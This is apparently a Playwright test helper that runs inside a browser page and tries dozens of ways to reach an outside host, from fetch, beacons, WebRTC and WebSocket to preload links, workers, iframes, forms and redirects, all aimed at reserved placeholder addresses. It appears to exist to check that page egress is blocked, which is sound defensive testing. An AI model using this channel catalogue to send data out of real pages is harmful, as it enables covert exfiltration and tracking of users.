import type { Page } from '@playwright/test';

/** Reserved for documentation (RFC 5737): no machine answers there. */
const ADDRESS = '203.0.113.7';
/** Reserved for tests (RFC 2606): no name server knows it. */
const NAME = 'leak.test';
const LEAVING = ['link', 'form', 'meta', 'location'] as const;

/**
 * Tries every way a page has of sending something, in the page's own world, and answers how many ways
 * were tried. The ways that leave the page come last.
 */
export async function tryEveryWayOut(page: Page): Promise<number> {
  const nStaying = await page.evaluate(stayAndSend, [ADDRESS, NAME] as const);
  for (const way of LEAVING) {
    // A page that does leave takes the call with it.
    await page.evaluate(leaveAndSend, [way, `http://${ADDRESS}/${way}`] as const).catch(() => null);
    await page.waitForTimeout(300);
  }
  await page.waitForTimeout(3_000);
  return nStaying + LEAVING.length;
}

/** Runs inside the page, so it can name nothing outside itself. */
async function stayAndSend([address, name]: readonly [string, string]): Promise<number> {
  const url = (way: string): string => `http://${address}/${way}`;
  const host = (way: string): string => `${way}.${name}`;
  function add(tag: string, attributes: object): void {
    const element = document.createElement(tag);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, String(value));
    document.body.append(element);
  }
  function stun(server: string): Promise<void> {
    const peer = new RTCPeerConnection({
      iceServers: [{ urls: server, username: 'u', credential: 'c' }],
    });
    peer.createDataChannel('x');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  }
  const ways: (() => unknown)[] = [
    () => fetch(url('fetch')),
    () => fetch(url('keepalive'), { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }),
    () => fetch(`https://${host('fetch')}/`),
    () => {
      const request = new XMLHttpRequest();
      request.open('GET', url('xhr'));
      request.send();
    },
    () => new WebSocket(`ws://${address}/socket`),
    () => new WebSocket(`wss://${host('socket')}/`),
    () => new EventSource(url('events')),
    () => navigator.sendBeacon(url('beacon'), 'x'),
    () => stun(`stun:${address}:3478`),
    () => stun(`stun:${host('stun')}:3478`),
    () => stun(`turn:${address}:3478?transport=tcp`),
    () => Reflect.construct(Reflect.get(window, 'WebTransport'), [`https://${address}:4433/`]),
    () => add('img', { src: url('img') }),
    () => add('img', { srcset: `${url('srcset')} 2x` }),
    () => add('div', { style: `background: url(${url('css')})` }),
    () => (document.body.style.backgroundImage = `url(${url('cssom')})`),
    () => new FontFace('x', `url(${url('font')})`).load(),
    () => {
      const style = document.createElement('style');
      style.textContent = `@import "${url('import')}"; body { cursor: url(${url('cursor')}), auto }`;
      document.head.append(style);
    },
    ...[
      { rel: 'stylesheet', href: url('sheet') },
      { rel: 'preload', as: 'image', href: url('preload') },
      { rel: 'modulepreload', href: url('module') },
      { rel: 'prefetch', href: url('prefetch') },
      { rel: 'icon', href: url('icon') },
      { rel: 'manifest', href: url('manifest') },
      { rel: 'dns-prefetch', href: `//${host('prefetch')}` },
      { rel: 'preconnect', href: `http://${host('preconnect')}` },
      { rel: 'preconnect', href: `http://${address}` },
    ].map((attributes) => () => add('link', attributes)),
    () => add('script', { src: url('script') }),
    () => import(/* @vite-ignore */ url('dynamic')),
    () => new Worker(url('worker')),
    () => new SharedWorker(url('shared')),
    () => navigator.serviceWorker.register(url('service')),
    () => navigator.serviceWorker.register('/sw.js'),
    () => add('iframe', { src: url('frame') }),
    () => add('iframe', { srcdoc: `<img src="${url('srcdoc')}">` }),
    () => add('object', { data: url('object') }),
    () => add('embed', { src: url('embed') }),
    () => add('video', { src: url('video'), poster: url('poster'), autoplay: '' }),
    () => add('audio', { src: url('audio'), autoplay: '' }),
    () => add('webview', { src: url('webview'), allowpopups: '' }),
    () => (document.body.innerHTML += `<img src="${url('markup')}"><b>x</b>`),
    () => add('textarea', { spellcheck: 'true' }),
    () => window.open(url('open')),
    () => window.open(url('noopener'), '_blank', 'noopener'),
  ];
  for (const way of ways) {
    try {
      // Without waiting: what is refused says so in its own time, and nobody needs to hear it.
      void Promise.resolve(way()).catch(() => null);
    } catch {
      // Refused at once.
    }
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  return ways.length;
}

/** Runs inside the page. */
function leaveAndSend([way, url]: readonly [string, string]): void {
  if (way === 'link') {
    const link = document.createElement('a');
    Object.assign(link, { href: url, ping: `${url}/ping` });
    document.body.append(link);
    link.click();
  } else if (way === 'form') {
    const form = document.createElement('form');
    Object.assign(form, { action: url, method: 'post' });
    document.body.append(form);
    form.submit();
  } else if (way === 'meta') {
    const meta = document.createElement('meta');
    Object.assign(meta, { httpEquiv: 'refresh', content: `0; url=${url}` });
    document.head.append(meta);
  } else {
    location.href = url;
  }
}
